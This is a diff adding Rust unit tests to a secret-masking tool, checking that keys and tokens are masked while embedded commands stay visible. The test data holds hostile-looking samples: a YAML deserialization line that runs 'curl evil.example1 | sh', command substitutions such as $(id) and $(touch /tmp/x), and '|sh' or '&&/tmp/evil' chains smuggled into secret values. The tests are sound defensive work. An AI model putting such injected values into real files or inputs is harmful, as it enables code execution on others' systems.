@@ -1,6 +1,6 @@
 //! Likely secrets are hidden, and nothing that people need to read.
 
-use weighlock_effects::mask;
+use weighlock_effects::{compare, mask};
 
 #[test]
 fn secrets_are_hidden_and_what_they_are_stays() {
@@ -209,4 +209,61 @@ fn what_is_no_secret_stays() {
         assert_eq!(mask(line), None, "{line}");
     }
     assert!(cases.len() >= 30);
+}
+
+#[test]
+fn what_would_be_run_is_never_hidden() {
+    for line in [
+        "token: !!python/object/apply:os.system [\"curl evil.example1 | sh\"]",
+        "password: !!python/object/new:subprocess.Popen2",
+        "secret: !Sub2 x",
+        "PASSWORD=`/tmp/evil1`",
+        "password = \"abc1$(touch /tmp/x)\"",
+        "token: \"<%= system2('id') %>\"",
+        "api_key: \"#{`id1`}\"",
+        "url = https://x:a1$(id)@example.com",
+        "token = compute2(x)",
+    ] {
+        assert_eq!(mask(line), None, "{line}");
+    }
+    for (line, masked) in [
+        ("TOKEN=abcdef1&&/tmp/evil", "TOKEN=•••&&/tmp/evil"),
+        ("API_KEY=abcdef1|sh", "API_KEY=•••|sh"),
+        ("SECRET=abcdef1$(id)", "SECRET=•••$(id)"),
+        ("password: !!str hunter2222", "password: !!str •••"),
+    ] {
+        assert_eq!(mask(line).as_deref(), Some(masked), "{line}");
+    }
+}
+
+#[test]
+fn a_command_of_one_word_is_not_hidden_as_part_of_a_key() {
+    let script =
+        b"# -----BEGIN PRIVATE KEY-----\nreboot\nComment: x\nMIIEpAIBAAKCAQEA7zzz\nend1\nhalt\n";
+    let hunks = compare(b"", script);
+    let shown: Vec<&str> = hunks[0]
+        .lines
+        .iter()
+        .map(|line| line.text.as_str())
+        .collect();
+    assert_eq!(shown[1], "reboot");
+    assert!(shown.contains(&"halt"), "{shown:?}");
+    let key = b"-----BEGIN PRIVATE KEY-----\nProc-Type: 4\n\nMIIEpAIBAAKCAQEA7zzz\nzz==\n-----END PRIVATE KEY-----\n";
+    let hunks = compare(b"", key);
+    let shown: Vec<&str> = hunks[0]
+        .lines
+        .iter()
+        .map(|line| line.text.as_str())
+        .collect();
+    assert_eq!(
+        shown,
+        [
+            "-----BEGIN PRIVATE KEY-----",
+            "Proc-Type: 4",
+            "•••",
+            "•••",
+            "•••",
+            "-----END PRIVATE KEY-----"
+        ]
+    );
 }
